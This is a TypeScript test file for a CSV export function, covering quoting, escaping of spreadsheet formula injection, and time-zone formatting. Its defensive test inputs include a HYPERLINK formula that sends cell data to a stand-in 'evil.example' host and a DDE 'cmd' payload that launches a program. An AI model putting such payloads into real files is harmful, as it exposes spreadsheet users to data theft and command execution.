import fc from 'fast-check';
import { expect, test, vi } from 'vitest';
import { readCsv, spreadsheetCells } from '#tests/support/csv.ts';
import { seed } from '#tests/support/seed.ts';
import { csvLine, localTime } from './export-csv.ts';

const SEPARATORS = [',', ';'] as const;

test('cells with commas, quotes and line ends are read back as they were', () => {
  const cells = ['Åke', 'Lind, Ella', 'Ella "Elle"', 'one\r\ntwo', 'a; b', 'a\tb', '', ' '];
  const quoted = ['Åke', '"Lind, Ella"', '"Ella ""Elle"""', '"one\r\ntwo"', '"a; b"', '"a\tb"', '', ' '];
  for (const separator of SEPARATORS) {
    expect(csvLine(cells, separator)).toBe(`${quoted.join(separator)}\r\n`);
    const file = csvLine(cells, separator) + csvLine([''], separator);
    expect(readCsv(file, separator)).toEqual([cells, ['']]);
  }
});

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  '+46 70 123 45 67',
  '-2+3',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '＝1+1',
  ' =1+1',
  '"=1+1',
  '\u200b=1+1',
  '\u2060"\ufeff +1',
  '\ttab',
  '\r\nline',
])('the text %j is escaped, so that no spreadsheet computes it', (text) => {
  const [[cell] = []] = readCsv(csvLine([text], ';'));
  expect(cell).toBe(`'${text}`);
});

test('a formula after a comma, a semicolon, a tab or a line end in a cell is escaped', () => {
  for (const separator of SEPARATORS) {
    const line = csvLine(["Ella;=cmd|' /C calc'!A0; +1,;-1\n=1,@x\t=1"], separator);
    expect(readCsv(line, separator)).toEqual([["Ella;'=cmd|' /C calc'!A0;' +1,;'-1\n'=1,'@x\t'=1"]]);
  }
});

test('a formula after a semicolon and a quote is escaped', () => {
  const cells = ['Kim', 'Ella;"=1+1;', 'Vän'];
  const escaped = ['Kim', 'Ella;\'"=1+1;', 'Vän'];
  for (const separator of SEPARATORS) {
    const line = csvLine(cells, separator);
    expect(readCsv(line, separator)).toEqual([escaped]);
    expect(spreadsheetCells(line, separator)).toEqual([...escaped.slice(0, 2), 'Vän']);
  }
  expect(spreadsheetCells(csvLine(cells, ','), ';')).toEqual(['Kim,"Ella', '\'""=1+1', ',Vän\r\n']);
});

const SIGNS = ['=', '+', '-', '@', '＝', ';', '"', ',', ' ', '\t', '\r\n', '\u200b', '\u2060', "'", 'Ella'];

test('random cells contain no formula, whichever separator the spreadsheet uses', () => {
  const text = fc.array(fc.constantFrom(...SIGNS), { maxLength: 8 }).map((parts) => parts.join(''));
  const of = fc.constantFrom(...SEPARATORS);
  const table = fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 3 });
  fc.assert(
    fc.property(table, fc.constantFrom(',', ';', ',;', ',;\t'), of, (rows, separators, separator) => {
      const shown = spreadsheetCells(rows.map((row) => csvLine(row, separator)).join(''), separators);
      expect(shown.filter((cell) => /^["\s\p{Cf}]*[=+\-@＝]/u.test(cell))).toEqual([]);
    }),
    { numRuns: 2000, seed },
  );
});

test('text that is no formula is unchanged', () => {
  for (const text of [
    '070-123 45 67',
    '1+1',
    "O'Hara",
    '(08) 123',
    'a=b',
    'a; b',
    'kom 10:00 → 10:05; gick -',
  ]) {
    expect(readCsv(csvLine([text], ';'))).toEqual([[text]]);
  }
});

const NOON = '2026-05-04T12:00:00.000Z';

test('a time is formatted in its zone, and in UTC if nobody knows the zone', () => {
  expect(localTime(NOON, 'Europe/Stockholm')).toBe('2026-05-04 14:00');
  expect(localTime('2026-01-04T23:30:59.999Z', 'Europe/Stockholm')).toBe('2026-01-05 00:30');
  expect(localTime(NOON, 'Asia/Kolkata')).toBe(localTime(NOON, 'Asia/Calcutta'));
  expect(localTime(NOON, 'Mars/Crater')).toBe('2026-05-04 12:00 UTC');
});

test('a time is formatted as the browser would, in every zone, at either end of summer time', () => {
  const style = { dateStyle: 'short', timeStyle: 'short' } as const;
  for (const timeZone of Intl.supportedValuesOf('timeZone')) {
    const format = new Intl.DateTimeFormat('sv-SE', { ...style, timeZone });
    for (const at of [
      NOON,
      '2026-10-25T00:30:00.000Z',
      '2026-10-25T01:30:00.000Z',
      '1999-12-31T23:59:30.000Z',
    ])
      expect(localTime(at, timeZone)).toBe(format.format(new Date(at)));
  }
});

test('no zone makes a format, which takes memory outside the heap', () => {
  const formats = vi.spyOn(Intl, 'DateTimeFormat');
  for (const zone of Intl.supportedValuesOf('timeZone')) localTime(NOON, zone);
  expect(formats).not.toHaveBeenCalled();
  formats.mockRestore();
});
